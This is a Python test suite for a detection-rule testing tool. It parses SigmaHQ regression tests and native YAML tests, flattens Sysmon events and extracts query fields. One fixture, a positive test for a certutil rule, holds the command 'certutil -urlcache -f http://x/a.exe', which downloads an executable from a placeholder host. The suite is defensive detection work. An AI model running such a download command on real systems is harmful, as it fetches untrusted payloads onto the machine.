"""Reading rule tests (SigmaHQ's format and the native one), flattening events, query fields."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from watchmgr.ruletest import (
    Expect,
    FieldUse,
    find_tests,
    flatten_event,
    mattered,
    query_fields,
    read_event_stream,
    read_native,
    rename_fields,
    search_of,
)

SYSMON_EVENT = {
    "Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770"}},
            "EventID": 11,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "dc.example.local",
        },
        "EventData": {"Image": "C:\\Windows\\system32\\cmd.exe", "TargetFilename": "C:\\x.exe"},
    }
}


def test_a_windows_event_is_flattened_as_a_pipeline_without_ecs_would() -> None:
    assert flatten_event(SYSMON_EVENT) == {
        "EventID": 11,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider": "Microsoft-Windows-Sysmon",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Image": "C:\\Windows\\system32\\cmd.exe",
        "TargetFilename": "C:\\x.exe",
    }


def test_an_event_id_with_attributes_and_user_data_are_read_as_their_values() -> None:
    event = {
        "Event": {
            "System": {"EventID": {"#attributes": {"Qualifiers": 0}, "#text": 5858}},
            "UserData": {"Operation_ClientFailure": {"#attributes": {"x": 1}, "Id": "{A}"}},
        }
    }
    assert flatten_event(event) == {"EventID": 5858, "Id": "{A}"}


def test_a_flat_event_is_kept_as_it_is() -> None:
    assert flatten_event({"Image": "a.exe", "Event": "x"}) == {"Image": "a.exe", "Event": "x"}


def test_fields_are_renamed_as_the_pipelines_rename_them_for_queries() -> None:
    renamed = rename_fields(
        {"Image": "a.exe", "CommandLine": "a -x", "Other": 1},
        {"Image": {"process.executable"}, "CommandLine": {"process.command_line", "cmd"}},
    )
    assert renamed == {
        "process": {"executable": "a.exe", "command_line": "a -x"},
        "cmd": "a -x",
        "Other": 1,
    }


def test_evtx_dump_output_is_json_objects_one_after_another() -> None:
    text = json.dumps(SYSMON_EVENT, indent=2) + "\n" + json.dumps({"Event": {}}, indent=2)
    assert len(read_event_stream(text.encode(), "e.json")) == 2


def test_a_broken_event_file_is_one_error_at_its_line() -> None:
    from watchmgr.ruletest import _Bad

    with pytest.raises(_Bad) as caught:
        read_event_stream(b'{"a": 1}\n\n{"b": \n', "events.json")
    assert str(caught.value.diagnostic).startswith("events.json:4: not JSON events")


NATIVE = """\
# tests of proc_creation_certutil.yml
- name: certutil downloads a file
  fires: true
  events:
    - Image: C:\\Windows\\System32\\certutil.exe
      CommandLine: certutil -urlcache -f http://x/a.exe
- name: two of three
  match_count: 2
  events: [{A: 1}, {A: 2}, {A: 3}]
- name: verifying a certificate
  fires: false
  events:
    - Image: C:\\Windows\\System32\\certutil.exe
"""


def test_the_native_format_reads_each_test_with_its_line_and_expectation() -> None:
    found = read_native(NATIVE.encode(), "rules/certutil.tests.yml")
    assert found.diagnostics == ()
    assert [(c.name, str(c.location), c.expect) for c in found.cases] == [
        ("certutil downloads a file", "rules/certutil.tests.yml:2", Expect(True)),
        ("two of three", "rules/certutil.tests.yml:7", Expect(True, 2)),
        ("verifying a certificate", "rules/certutil.tests.yml:10", Expect(False)),
    ]
    assert found.cases[0].events[0]["Image"] == "C:\\Windows\\System32\\certutil.exe"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("- name: a\n  fires: true\n", "t.yml:1: test 'a' has no events"),
        ("- name: a\n  events: [{A: 1}]\n", "t.yml:1: test 'a' needs exactly one of"),
        ("- name: a\n  fires: yes please\n  events: [{A: 1}]\n", "t.yml:1: test 'a': fires must"),
        ("- {name: a, match_count: -1, events: [{A: 1}]}\n", "t.yml:1: test 'a': match_count"),
        ("- {name: a, fires: true, events: [x]}\n", "t.yml:1: test 'a': every event must"),
        ("- {name: a, fire: true, events: [{A: 1}]}\n", "t.yml:1: unknown key 'fire'"),
        ("x: [\n", "t.yml:2: not valid YAML"),
        ("name: a\n", "t.yml:1: a test file is a list of tests"),
    ],
)
def test_a_bad_native_file_is_one_line_per_problem(text: str, message: str) -> None:
    found = read_native(text.encode(), "t.yml")
    assert found.cases == ()
    assert len(found.diagnostics) == 1, found.diagnostics
    assert str(found.diagnostics[0]).startswith(message), found.diagnostics


def _sigmahq_layout(tmp_path: Path, match_count: str = "match_count: 1") -> Path:
    """A SigmaHQ checkout in miniature: rules/x.yml and regression_data/.../info.yml + json."""
    data = tmp_path / "regression_data" / "rules" / "x"
    data.mkdir(parents=True)
    (data / "info.yml").write_text(
        textwrap.dedent(
            f"""\
            id: 1
            regression_tests_info:
                - name: Positive Detection Test
                  type: evtx
                  provider: Microsoft-Windows-Sysmon
                  {match_count}
                  path: regression_data/rules/x/abc.evtx
            """
        )
    )
    (data / "abc.json").write_text(json.dumps(SYSMON_EVENT, indent=2))
    rules = tmp_path / "rules"
    rules.mkdir()
    rule = rules / "x.yml"
    rule.write_text("title: x\nregression_tests_path: regression_data/rules/x/info.yml\n")
    return rule


def test_sigmahq_tests_are_found_from_the_rule_under_the_folders_above_it(tmp_path: Path) -> None:
    rule = _sigmahq_layout(tmp_path)
    raw = {"regression_tests_path": "regression_data/rules/x/info.yml"}
    found = find_tests(rule, "rules/x.yml", raw, 2)
    assert found.diagnostics == ()
    (case,) = found.cases
    assert (case.name, case.expect, case.location.line) == (
        "Positive Detection Test",
        Expect(True, 1),
        3,
    )
    assert case.events[0]["TargetFilename"] == "C:\\x.exe"


def test_sigmahq_tests_under_another_root_need_it_named(tmp_path: Path) -> None:
    rule = _sigmahq_layout(tmp_path / "checkout")
    moved = tmp_path / "elsewhere" / "x.yml"
    moved.parent.mkdir()
    moved.write_text(rule.read_text())
    raw = {"regression_tests_path": "regression_data/rules/x/info.yml"}
    missing = find_tests(moved, "x.yml", raw, 2)
    assert [str(d) for d in missing.diagnostics] == [
        "x.yml:2: warning: regression_tests_path 'regression_data/rules/x/info.yml' is not "
        "under any folder above the rule; give the folder that holds regression_data/ with "
        "--tests-root"
    ]
    found = find_tests(moved, "x.yml", raw, 2, tests_root=tmp_path / "checkout")
    assert len(found.cases) == 1 and found.diagnostics == ()


def test_a_missing_events_file_and_a_bad_match_count_are_errors_at_the_info_line(
    tmp_path: Path,
) -> None:
    rule = _sigmahq_layout(tmp_path, "match_count: many")
    raw = {"regression_tests_path": "regression_data/rules/x/info.yml"}
    (problem,) = find_tests(rule, "rules/x.yml", raw, 2).diagnostics
    assert str(problem).endswith("info.yml:3: match_count must be a whole number, not 'many'")
    (tmp_path / "regression_data/rules/x/info.yml").write_text(
        "regression_tests_info:\n  - path: regression_data/rules/x/gone.evtx\n"
    )
    (problem,) = find_tests(rule, "rules/x.yml", raw, 2).diagnostics
    assert "info.yml:2: cannot read the events gone.json beside it" in str(problem)


def test_the_native_file_beside_the_rule_is_found(tmp_path: Path) -> None:
    rule = tmp_path / "certutil.yml"
    rule.write_text("title: x\n")
    (tmp_path / "certutil.tests.yml").write_text(NATIVE)
    found = find_tests(rule, "rules/certutil.yml", {}, None)
    assert [c.location.path for c in found.cases] == ["rules/certutil.tests.yml"] * 3


@pytest.mark.parametrize(
    ("query", "uses"),
    [
        (
            r"Image.keyword:(*\\cmd.exe OR *\\pwsh.exe)",
            [("Image.keyword", "wildcard", 8), ("Image.keyword", "wildcard", 9)],
        ),
        (r'EventID:("4776" OR "4624")', [("EventID", "phrase", 4), ("EventID", "phrase", 4)]),
        (
            r'Threat\ Name:"x y" AND NOT _exists_:User',
            [("Threat Name", "phrase", 3), ("User", "exists", 0)],
        ),
        (
            r"F.keyword:/a.*b/ AND N:[1 TO 5] AND x:>3",
            [("F.keyword", "regex", 2), ("N", "range", 0), ("x", "range", 0)],
        ),
        (r"\*.keyword:(*AAAA*) AND lonely", []),
        (
            r"(A:(a OR (b AND c)) AND B:d\:e)",
            [("A", "term", 1), ("A", "term", 1), ("A", "term", 1), ("B", "term", 3)],
        ),
    ],
)
def test_the_fields_of_a_query_and_how_each_is_searched(
    query: str, uses: list[tuple[str, str, int]]
) -> None:
    assert query_fields(query) == tuple(FieldUse(*u) for u in uses)


def test_the_fields_that_mattered_count_the_events_holding_them() -> None:
    events = [{"Image": "a", "process": {"name": "x"}}, {"Image": "b"}]
    found = mattered([r"Image.keyword:*a AND CommandLine:x AND process.name:x"], events, ".keyword")
    assert found == (("CommandLine", 0), ("Image", 2), ("process.name", 1))


def test_the_search_of_a_test_is_the_watch_query_without_its_time_range() -> None:
    body = {
        "input": {
            "search": {
                "request": {
                    "body": {
                        "size": 0,
                        "query": {
                            "bool": {
                                "must": [{"query_string": {"query": "A:b"}}],
                                "filter": {"range": {"timestamp": {"gte": "now-30m/m"}}},
                            }
                        },
                    }
                }
            }
        }
    }
    assert search_of(body, ["r-0", "r-1"]) == {
        "size": 2,
        "_source": False,
        "query": {
            "bool": {
                "must": [{"bool": {"must": [{"query_string": {"query": "A:b"}}]}}],
                "filter": [{"ids": {"values": ["r-0", "r-1"]}}],
            }
        },
    }


def test_a_test_file_beside_a_rule_is_not_read_as_a_rule(tmp_path: Path) -> None:
    from watchmgr.rules import discover

    (tmp_path / "certutil.yml").write_text("title: x\n")
    (tmp_path / "certutil.tests.yml").write_text(NATIVE)
    assert discover([tmp_path]) == ([tmp_path / "certutil.yml"], [])


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (
            "title: x\nregression_tests_path: a/info.yml\n",
            ({"regression_tests_path": "a/info.yml"}, 2),
        ),
        (
            "title: x\nregression_tests_path: 'a b/info.yml'\n",
            ({"regression_tests_path": "a b/info.yml"}, 2),
        ),
        ("title: x\n  regression_tests_path: nested\n", ({}, None)),
        ("title: x\nregression_tests_path: [\n", ({"regression_tests_path": ""}, 2)),
    ],
)
def test_the_regression_key_of_a_rule_file_is_read_with_its_line(
    text: str, found: tuple[dict[str, str], int | None]
) -> None:
    from watchmgr.ruletest import regression_key

    assert regression_key(text.encode()) == found


def test_a_scratch_index_maps_each_field_as_the_first_index_that_has_it() -> None:
    from watchmgr.ruletest import scratch_mappings

    text = {"type": "text", "fields": {"keyword": {"type": "keyword", "ignore_above": 256}}}
    found = {
        "logs-b": {"process.command_line": {"type": "text"}, "Image": text},
        "logs-a": {
            "process.command_line": {"type": "wildcard"},
            "process.name": {"type": "keyword"},
        },
        "logs-c": {"Image": text, "Image.keyword": text["fields"]["keyword"]},
    }
    assert scratch_mappings(found) == {
        "properties": {
            "Image": text,
            "process": {
                "properties": {
                    "command_line": {"type": "wildcard"},
                    "name": {"type": "keyword"},
                }
            },
        }
    }
    assert scratch_mappings({"logs-a": {}}) is None


def test_a_native_test_can_take_its_events_from_an_evtx_dump_file_beside_it(
    tmp_path: Path,
) -> None:
    (tmp_path / "attack.json").write_text(json.dumps(SYSMON_EVENT, indent=2))
    text = "- {name: a, match_count: 2, events_file: attack.json, events: [{Image: b.exe}]}\n"
    (case,) = read_native(text.encode(), "rules/x.tests.yml", tmp_path).cases
    assert [e["Image"] for e in case.events] == ["b.exe", "C:\\Windows\\system32\\cmd.exe"]
    missing = read_native(b"- {name: a, fires: true, events_file: gone.json}\n", "x.yml", tmp_path)
    assert [str(d) for d in missing.diagnostics] == [
        "x.yml:1: test 'a': cannot read events_file 'gone.json': No such file or directory"
    ]
    (tmp_path / "bad.json").write_text('{"Event": \n')
    broken = read_native(b"- {name: a, fires: true, events_file: bad.json}\n", "r/x.yml", tmp_path)
    assert [str(d) for d in broken.diagnostics] == [
        "r/bad.json:2: not JSON events: Expecting value"
    ]
